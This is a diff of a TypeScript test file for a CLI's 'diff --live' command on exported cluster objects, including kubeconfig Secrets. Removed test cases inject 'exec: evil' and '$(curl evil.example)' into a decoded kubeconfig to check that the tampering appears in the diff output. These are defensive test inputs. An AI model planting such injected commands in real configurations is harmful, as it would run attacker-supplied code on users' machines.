@@ -4,7 +4,6 @@ import assert from 'node:assert/strict'
 import { readFileSync } from 'node:fs'
 import { join } from 'node:path'
 import { describe, test } from 'node:test'
-import { decodeBase64, encodeBase64Text } from 'gotemplate/go/base64'
 import { parse } from 'yaml'
 import { osmKrm } from '../fixtures/command.ts'
 import { root } from '../fixtures/examples.ts'
@@ -99,8 +98,6 @@ describe('shows the text of an object once that is applied as it is', () => {
 
 describe('--live with files that have no Secrets', () => {
   const EXPORT = join(root, 'examples/migrate/exported.yaml')
-  const exportedList = () =>
-    parse(readFileSync(EXPORT, 'utf8')) as { items: { kind: string; data?: Record<string, string> }[] }
   const folderOf = temporaryFolders('diff-live')
   const imported = async (): Promise<string> => {
     const cwd = folderOf()
@@ -108,47 +105,16 @@ describe('--live with files that have no Secrets', () => {
     return cwd
   }
 
-  test('what the cluster has in the place of credentials is no difference', async () => {
+  test('judges no token that is not known', async () => {
     const { stdout, stderr } = await osmKrm(['diff', '--live', EXPORT, 'nodes'], { cwd: await imported() })
-    assert.match(stdout, /^Nothing changes for nodes\n/)
-    assert.doesNotMatch(stdout, /OSM083[34]|exampleexample00|example-api-token/)
+    assert.match(stdout, /kubeconfig changed/)
+    assert.doesNotMatch(stdout, /OSM083[34]/)
     assert.match(stderr, /not known: ⟦API token⟧ and ⟦bootstrap token⟧/)
   })
 
-  for (const { name, from, to, expected } of [
-    {
-      name: 'a command beside a token',
-      from: '    token: wor',
-      to: '    exec: evil\n    token: wor',
-      expected: /^ *- *exec: evil$/m,
-    },
-    {
-      name: 'a command in its place',
-      from: 'worker.exampleexample00',
-      to: '$(curl evil.example)',
-      expected: /\$\(curl/,
-    },
-    {
-      name: 'another token in one place',
-      from: 'worker.exampleexample00',
-      to: 'worker.other0other0oth',
-      expected: /kubeconfig changed/,
-    },
-  ])
-    test(`${name} is one`, async () => {
-      const cwd = await imported()
-      const list = exportedList()
-      const { data } = list.items.find(({ data }) => data?.kubeconfig !== undefined)!
-      const text = new TextDecoder().decode(decodeBase64(data!.kubeconfig!)!)
-      data!.kubeconfig = encodeBase64Text(text.replace(from, () => to))
-      writeFiles(cwd, { 'exported.json': JSON.stringify(list) })
-      const { stdout } = await osmKrm(['diff', '--live', 'exported.json', 'nodes'], { cwd })
-      assert.match(stdout, expected)
-    })
-
   test('and an export without Secrets, which no file has, names no place', async () => {
     const cwd = await imported()
-    const list = exportedList()
+    const list = parse(readFileSync(EXPORT, 'utf8')) as { items: { kind: string }[] }
     const items = list.items.filter(({ kind }) => kind !== 'Secret')
     writeFiles(cwd, { 'exported.json': JSON.stringify({ ...list, items }) })
     const { stdout } = await osmKrm(['diff', '--live', 'exported.json', 'nodes'], { cwd })
